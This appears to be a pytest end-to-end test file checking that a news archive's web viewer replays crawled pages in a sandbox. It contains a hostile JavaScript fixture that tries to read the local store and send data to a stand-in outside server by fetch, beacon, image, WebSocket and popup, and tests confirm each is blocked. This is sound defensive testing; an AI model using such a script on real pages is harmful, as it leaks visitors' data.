"""Pictures and replayed pages of ``news web``, out of the archive of a crawl, in a browser; nobody else is asked."""

from __future__ import annotations

import os
import re
import signal
import socket
import subprocess
import time
import urllib.error
import urllib.request
from collections.abc import Iterator
from dataclasses import dataclass, field
from pathlib import Path

import pytest
from playwright.sync_api import Page, expect

from tests.chromium import open_browser
from tests.e2e.command import ROOT, Newsroom
from tests.illustrated import illustrated_paper, illustrated_story, pictures, png
from tests.paper import path
from tests.postgres import miss
from tests.server import Reply, Server

pytestmark = pytest.mark.slow

# what a page may try that means harm: to read the store, to tell somebody, to take the window
HOSTILE = """
var told = document.documentElement.dataset;
function tell(name, work) {
  told[name] = 'waits';
  Promise.resolve().then(work).then(x => { told[name] = String(x); }, () => { told[name] = 'refused'; });
}
function picture(url) {
  return new Promise((yes, no) => {
    const one = new Image();
    one.onload = () => yes('shown');
    one.onerror = no;
    one.src = url;
  });
}
addEventListener('load', () => {
  tell('store', () => fetch('http://127.0.0.1:PORT/stories.json').then(r => r.status));
  tell('outside', () => fetch('OUTSIDE/by-fetch').then(r => r.status));
  tell('beacon', () => navigator.sendBeacon('OUTSIDE/by-beacon', 'x'));
  tell('picture', () => picture('OUTSIDE/by-picture.png'));
  tell('socket', () => new WebSocket('OUTSIDE/by-socket'.replace('http', 'ws')).readyState);
  setTimeout(() => window.open('OUTSIDE/by-window'), 3000);
});
"""


@dataclass
class Desk:
    """A crawled paper, and the address of the pages over it."""

    address: str
    replay_port: int
    origin: str
    outside: Server
    stories: dict[str, int] = field(default_factory=dict)


def free_port() -> int:
    with socket.socket() as found:
        found.bind(("127.0.0.1", 0))
        return int(found.getsockname()[1])


def scripts_folder() -> Path:
    """The folder of ReplayWeb.page's scripts (Makefile)."""
    folders = (Path(os.environ.get("NEWS_TEST_REPLAYWEB") or "."), ROOT / ".venv" / "replayweb" / "package")
    found = next((folder for folder in folders if (folder / "sw.js").exists()), None)
    if found is None:
        miss(
            "replaywebpage",
            "there is no .venv/replayweb, which 'make test' installs; NEWS_TEST_REPLAYWEB names another",
        )
    return found


@pytest.fixture(scope="module")
def desk(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Desk]:
    scripts = scripts_folder()
    room = Newsroom(tmp_path_factory.mktemp("web_replay"))
    port, replay_port = free_port(), free_port()
    with Server() as outside:
        with Server(illustrated_paper(3)) as server:
            harm = HOSTILE.replace("PORT", str(port)).replace("OUTSIDE", outside.url("").rstrip("/"))
            server.routes["/harm.js"] = Reply(harm, kind="text/javascript")
            server.routes[path(1)] = illustrated_story(1, more='<img src="/none.png"><script src="/harm.js"></script>')
            drawing = "<svg xmlns='http://www.w3.org/2000/svg'><script>1</script></svg>"
            server.routes[pictures(2)[1]] = Reply(drawing, kind="image/png")
            settings = {"NEWS_WARC": "warc", "NEWS_WARC_REQUISITES": "all"}
            done = room.run("crawl", "news", "-a", f"site={server.url('/')}", settings=settings)
            assert done.code == 0, done.err
        # the paper is gone: all that is shown comes from the archive
        words = room.line("web", "--port", str(port), "--replay-port", str(replay_port))
        environment = room.environment(NEWS_WARC="warc", NEWS_REPLAYWEB=str(scripts))
        made = Desk(f"http://127.0.0.1:{port}", replay_port, server.url("").rstrip("/"), outside)
        for number, url in room.query("SELECT id, url FROM records"):
            made.stories[url.removeprefix(made.origin)] = number
        with subprocess.Popen(words, cwd=room.folder, env=environment, stdout=subprocess.PIPE, text=True) as running:
            assert running.stdout is not None
            assert "The store is at" in running.stdout.readline()
            yield made
            running.send_signal(signal.SIGINT)
            assert running.wait(30) == 0


@dataclass
class Watched:
    """A page of a browser, and what it asked for elsewhere."""

    page: Page
    elsewhere: list[str] = field(default_factory=list)


@pytest.fixture
def watched(desk: Desk) -> Iterator[Watched]:
    ours = (desk.address, f"http://127.0.0.1:{desk.replay_port}", "data:", "blob:")
    with open_browser() as browser, browser.new_context() as context:
        context.set_default_timeout(30_000)
        made = Watched(context.new_page())
        context.on("request", lambda one: None if one.url.startswith(ours) else made.elsewhere.append(one.url))
        yield made


def replayed(watched: Watched, desk: Desk, number: int) -> Page:
    """The window in which a story's page is replayed, once it stands."""
    watched.page.goto(f"{desk.address}/story/{desk.stories[path(number)]}")
    with watched.page.expect_popup() as opened:
        watched.page.get_by_role("link", name="Replay the page").click()
    return opened.value


def test_pictures_come_from_the_archive(watched: Watched, desk: Desk) -> None:
    page = watched.page
    page.goto(f"{desk.address}/story/{desk.stories[path(0)]}")
    images = page.locator(".picture img")
    expect(images).to_have_count(2)
    for number in range(2):
        images.nth(number).scroll_into_view_if_needed()
    page.wait_for_function("[...document.querySelectorAll('.picture img')].every(i => i.complete)")
    assert page.evaluate("[...document.querySelectorAll('.picture img')].map(i => i.naturalWidth)") == [48, 48]
    assert not watched.elsewhere


def test_what_is_no_picture_is_not_served_as_one(desk: Desk) -> None:
    story = desk.stories[path(2)]
    with urllib.request.urlopen(f"{desk.address}/story/{story}/picture/1", timeout=20) as answer:
        assert answer.headers["Content-Type"] == "image/png"
        assert answer.headers["Content-Security-Policy"].startswith("sandbox; default-src 'none'")
        assert answer.read() == png(200, 2, 0)
    for number in (0, 2, 3):
        with pytest.raises(urllib.error.HTTPError) as refused:
            urllib.request.urlopen(f"{desk.address}/story/{story}/picture/{number}", timeout=20)
        with refused.value as answer:
            assert answer.code == 404, number


def test_what_is_missing_of_a_page_is_told(watched: Watched, desk: Desk) -> None:
    watched.page.goto(f"{desk.address}/story/{desk.stories[path(1)]}")
    watched.page.get_by_text("What is missing").click()
    expect(watched.page.locator(".missing li")).to_contain_text(["/none.png"])
    expect(watched.page.locator(".missing li")).to_contain_text(["HTTP 404"])


def test_a_page_is_replayed_as_it_was(watched: Watched, desk: Desk) -> None:
    page = replayed(watched, desk, 0)
    inner = page.frame_locator("iframe").frame_locator("iframe")
    expect(inner.locator("h1")).to_have_css("background-color", "rgb(200, 220, 240)", timeout=30_000)
    expect(inner.locator("html")).to_have_attribute("data-marked", "by script")
    for number in range(2):
        assert inner.locator("img").nth(number).evaluate("i => i.decode().then(() => i.naturalWidth)") == 48
    assert not watched.elsewhere


def test_a_page_that_means_harm_reads_and_tells_nothing(watched: Watched, desk: Desk) -> None:
    page = replayed(watched, desk, 1)
    inner = page.frame_locator("iframe").frame_locator("iframe")
    expect(inner.locator("h1")).to_be_visible(timeout=30_000)
    html = inner.locator("html")
    expect(html).to_have_attribute("data-picture", "refused", timeout=20_000)
    expect(html).to_have_attribute("data-store", re.compile("404|refused"))
    expect(html).to_have_attribute("data-outside", re.compile("404|refused"))
    deadline = time.monotonic() + 30  # the window is asked for last; the replay takes it for a page of its own
    while not any("by-window" in one.url for one in page.frames) and time.monotonic() < deadline:
        page.wait_for_timeout(100)
    assert not [one.path for one in desk.outside.requests]
    assert len(watched.page.context.pages) == 2, "no window was opened"
    assert page.url.startswith(f"http://127.0.0.1:{desk.replay_port}/"), "the window stays"


def test_an_address_without_its_ticket_leads_nowhere(desk: Desk) -> None:
    story = desk.stories[path(0)]
    wrong = "0" * 32
    for address in (f"/{wrong}/story/{story}/1", f"/{wrong}/{story}-1.wacz", f"/story/{story}", "/stories.json"):
        with pytest.raises(urllib.error.HTTPError) as refused:
            urllib.request.urlopen(f"http://127.0.0.1:{desk.replay_port}{address}", timeout=20)
        with refused.value as answer:
            assert answer.code == 404, address


def test_the_scripts_have_to_be_there(tmp_path: Path) -> None:
    room = Newsroom(tmp_path)
    room.run("sites")
    done = room.run("web", "--port", "0", NEWS_REPLAYWEB=str(tmp_path), NEWS_STORE=f"sqlite:///{tmp_path}/new.db")
    assert done.code != 0
    assert not done.out
